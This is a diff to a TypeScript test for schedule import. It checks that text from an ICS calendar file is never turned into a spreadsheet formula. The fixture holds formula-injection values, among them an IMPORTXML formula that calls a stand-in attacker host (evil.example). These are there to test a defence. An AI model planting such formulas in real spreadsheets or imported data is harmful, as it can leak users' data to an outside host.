@@ -197,7 +197,7 @@ describe('schedule import', () => {
 
   test('text from a schedule never becomes a formula, and a second import of it still finds its item', () => {
     const sb = setup();
-    const ics = ['BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'UID:=1+1', 'SUMMARY:=IMPORTXML("https://evil.example/x"\, "//a")', 'LOCATION:+62 ruang', 'DTSTART:20261202T020000Z', 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');
+    const ics = ['BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'UID:=1+1', 'SUMMARY:=IMPORTXML("https://evil.example/x"\\, "//a")', 'LOCATION:+62 ruang', 'DTSTART:20261202T020000Z', 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');
     const src = { source: 'ics', period: '2026-12', fileName: 'x.ics', content: ics };
     const p = ok(call<PreviewScheduleValue>(sb, 'apiPreviewSchedule', src));
     ok(call<ImportScheduleValue>(sb, 'apiImportSchedule', { ...src, keys: p.rows.map((r) => r.key) }));
